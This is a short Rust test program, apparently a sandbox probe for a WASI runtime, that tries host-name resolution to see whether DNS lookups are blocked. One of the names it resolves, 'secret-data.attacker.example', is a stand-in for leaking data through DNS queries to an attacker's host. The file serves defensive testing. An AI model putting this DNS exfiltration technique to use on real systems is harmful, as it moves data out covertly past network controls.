//! Attack: resolve host names, to learn about the host's network or leak
//! data through DNS queries. Needs `wasi:sockets/ip-name-lookup`.

use hostile_commands::Attempts;
use std::net::ToSocketAddrs;

fn main() {
    let mut a = Attempts::default();
    for name in ["localhost:80", "secret-data.attacker.example:53"] {
        a.check(&format!("resolve {name}"), name.to_socket_addrs().map(|addrs| addrs.collect::<Vec<_>>()));
    }
    a.finish();
}
